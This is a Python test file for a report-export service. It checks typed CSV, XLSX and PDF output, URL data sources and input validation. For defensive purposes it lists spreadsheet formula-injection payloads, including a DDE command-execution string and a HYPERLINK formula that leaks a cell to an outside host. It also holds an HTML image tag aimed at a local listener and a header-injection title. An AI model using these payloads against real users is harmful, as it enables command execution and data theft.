"""report.build end to end: typed CSV, XLSX and PDF files, formula injection, URL sources and their limits."""

from __future__ import annotations

import csv
import io
import json
import socket
import threading
from datetime import datetime

import dramatiq
import pytest
from openpyxl import load_workbook
from pypdf import PdfReader

from offload.publish import Publisher
from tests.http_source import Source
from tests.support import Api
from tests.support.media import run_job

#: reliability-security.md §7.6 rows 34-35: text a spreadsheet would run, or split into a formula.
INJECTIONS = [
    "=cmd|' /C calc'!A0",
    "+SUM(1+1)",
    "-2+3",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    '=HYPERLINK("http://x/?"&A1)',
    'a","=1+1',
    "a;=1+1",
]
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
COLUMNS = [
    {"name": "name", "title": "Name"},
    {"name": "qty", "type": "integer", "format": "#,##0"},
    {"name": "price", "type": "number", "format": "#,##0.00"},
    {"name": "day", "type": "date"},
    {"name": "paid", "type": "boolean"},
]


def _rows(count: int) -> list[dict]:
    return [
        {"name": f"Zoë {i}", "qty": i, "price": i * 1.5, "day": f"2026-01-{i % 28 + 1:02d}", "paid": i % 2 == 0}
        for i in range(1, count + 1)
    ]


def _download(api: Api, url: str) -> bytes:
    response = api.anonymous_get(url)
    assert response.status_code == 200 and response.headers["X-Content-Type-Options"] == "nosniff"
    assert response.headers["Content-Disposition"].startswith("attachment")
    return bytes(response.data)


def _build(api: Api, publisher: Publisher, payload: dict, timeout: float = 60):
    return run_job(api, publisher, "report.build", {"title": "Orders", "columns": COLUMNS, **payload}, timeout)


def test_a_csv_report_is_typed_utf8_and_neutralises_every_formula(
    api: Api, publisher: Publisher, reports_worker: dramatiq.Worker
) -> None:
    rows = _rows(3) + [{"name": text, "qty": 1} for text in INJECTIONS]
    record = _build(api, publisher, {"rows": rows, "output": "csv", "csv_bom": True, "totals": True})
    assert record.state == "succeeded", record
    assert record.result["rows"] == 3 + len(INJECTIONS) and record.result["name"] == "orders.csv"
    data = _download(api, record.result["url"])
    assert data.startswith(b"\xef\xbb\xbf")  # the byte-order mark Excel needs to read UTF-8
    parsed = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    assert parsed[0] == ["Name", "qty", "price", "day", "paid"]
    assert parsed[1] == ["Zoë 1", "1", "1.5", "2026-01-02", "false"]
    assert parsed[-1][:3] == ["Total", str(6 + len(INJECTIONS)), "9.0"]
    for cell in (cell for row in parsed for cell in row):
        assert not cell.startswith(TRIGGERS), cell  # no parsed cell begins with a trigger
    text = data.decode("utf-8-sig")
    assert "\"'=cmd|' /C calc'!A0\"" in text  # starts with ' and is quoted (row 34)


def test_an_xlsx_report_keeps_numbers_and_dates_typed_and_has_no_formula(
    api: Api, publisher: Publisher, reports_worker: dramatiq.Worker
) -> None:
    rows = _rows(50) + [{"name": text} for text in INJECTIONS]
    record = _build(api, publisher, {"rows": rows, "output": "xlsx", "totals": True})
    assert record.state == "succeeded", record
    book = load_workbook(io.BytesIO(_download(api, record.result["url"])))
    sheet = book["Orders"]
    cells = list(sheet.iter_rows())
    assert [c.value for c in cells[0]] == ["Name", "qty", "price", "day", "paid"] and cells[0][0].font.b
    first = [c.value for c in cells[1]]
    assert first == ["Zoë 1", 1, 1.5, datetime(2026, 1, 2), False]
    assert cells[1][2].number_format == "#,##0.00" and cells[1][3].number_format == "yyyy-mm-dd"
    assert [c.value for c in cells[-1]][:3] == ["Total", sum(range(1, 51)), sum(i * 1.5 for i in range(1, 51))]
    assert sheet.freeze_panes == "A2" and sheet.column_dimensions["A"].width == 24
    for cell in (cell for row in cells for cell in row):
        assert cell.data_type != "f", cell.value  # 0 formula cells from user data
        if isinstance(cell.value, str):
            assert not cell.value.startswith(TRIGGERS), cell.value


def test_a_pdf_report_repeats_its_header_numbers_its_pages_and_fetches_nothing(
    api: Api, publisher: Publisher, reports_worker: dramatiq.Worker
) -> None:
    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen()
    listener.settimeout(0.2)
    connections = []

    def count() -> None:
        while listener.fileno() != -1:
            try:
                connections.append(listener.accept()[0])
            except OSError:
                continue

    threading.Thread(target=count, daemon=True).start()
    port = listener.getsockname()[1]
    hostile = f'<img src="http://127.0.0.1:{port}/x.png"> <a href="http://127.0.0.1:{port}/">x</a>'
    record = _build(api, publisher, {"rows": [{"name": hostile}, *_rows(200)], "output": "pdf", "totals": True})
    listener.close()
    assert record.state == "succeeded", record
    pdf = PdfReader(io.BytesIO(_download(api, record.result["url"])))
    pages = [page.extract_text() for page in pdf.pages]
    assert len(pages) >= 3
    for number, text in enumerate(pages, start=1):
        assert "Orders" in text and "Name" in text and "price" in text  # title and header on every page
        assert f"Page {number} of {len(pages)}" in text
    assert "Zoë 200" in pages[-1] and "<img src=" in pages[0]  # user text drawn as text
    assert connections == []  # row 36: rendering made no network fetch


@pytest.mark.parametrize("fmt", ["ndjson", "csv", "json"])
def test_each_url_format_gives_the_same_report(
    api: Api, publisher: Publisher, reports_worker: dramatiq.Worker, source: Source, fmt: str
) -> None:
    rows = _rows(30)
    if fmt == "ndjson":
        source.body = "\n".join(json.dumps(r, ensure_ascii=False) for r in rows).encode()
    elif fmt == "json":
        source.body = json.dumps(rows, ensure_ascii=False, indent=1).encode()
    else:
        buffer = io.StringIO()
        writer = csv.DictWriter(buffer, fieldnames=list(rows[0]))
        writer.writeheader()
        writer.writerows({**r, "paid": "yes" if r["paid"] else "no"} for r in rows)
        source.body = buffer.getvalue().encode()
    record = _build(api, publisher, {"source": {"url": source.url(), "format": fmt}, "output": "xlsx"})
    assert record.state == "succeeded", record
    sheet = load_workbook(io.BytesIO(_download(api, record.result["url"])))["Orders"]
    values = [[c.value for c in row] for row in sheet.iter_rows(min_row=2)]
    assert len(values) == 30 and values[29] == ["Zoë 30", 30, 45.0, datetime(2026, 1, 3), True]


@pytest.mark.parametrize(
    ("body", "fmt", "problem"),
    [
        (b'{"name": "a"}\n{"name": ', "ndjson", "Row 2 of the source: not valid JSON"),
        (b'[{"name": "a"} {"name": "b"}]', "json", "a comma is missing"),
        (b'{"name": "a"}', "json", "not a JSON array"),
        (b"name,qty\na,1,extra\n", "csv", "3 fields but the header has 2"),
        (b'{"name": "a", "qty": "many"}', "ndjson", "Row 1, column 'qty': 'many' is not a valid integer"),
        (b"\xff\xfe\x00bad", "ndjson", "not UTF-8"),
    ],
)
def test_malformed_source_data_fails_with_a_readable_reason(
    api: Api,
    publisher: Publisher,
    reports_worker: dramatiq.Worker,
    source: Source,
    body: bytes,
    fmt: str,
    problem: str,
) -> None:
    source.body = body
    record = _build(api, publisher, {"source": {"url": source.url(), "format": fmt}, "output": "csv"})
    assert record.state == "failed" and record.error_code == "bad_source_data", record
    assert problem in (record.error_message or "") and record.attempts == 1


def test_bad_report_requests_are_422(api: Api) -> None:
    cases: list[tuple[dict, str]] = [
        ({"title": "x", "columns": COLUMNS}, "payload"),  # neither rows nor source
        ({"title": "x", "columns": COLUMNS, "rows": [], "source": {"url": "http://127.0.0.1/"}}, "payload"),
        ({"title": "x", "columns": [{"name": "a"}, {"name": "a"}], "rows": []}, "payload"),
        ({"title": "x", "columns": [{"name": "a", "type": "money"}], "rows": []}, "payload.columns[0].type"),
        ({"title": "x", "columns": [{"name": "a", "format": "=1+1"}], "rows": []}, "payload.columns[0].format"),
        ({"title": "x\r\nBcc: y", "columns": COLUMNS, "rows": []}, "payload.title"),
        ({"title": "x", "columns": COLUMNS, "rows": [{"a": 1}] * 10_001}, "payload.rows"),
        ({"title": "x", "columns": COLUMNS, "rows": [], "notify": {"email": "not an address"}}, "payload.notify.email"),
    ]
    for payload, field in cases:
        response = api.submit("report.build", payload)
        assert response.status_code == 422, (payload, response.get_json())
        fields = [e["field"] for e in response.get_json()["errors"]]
        assert any(f == field or f.startswith(field + ".") for f in fields), (field, fields)
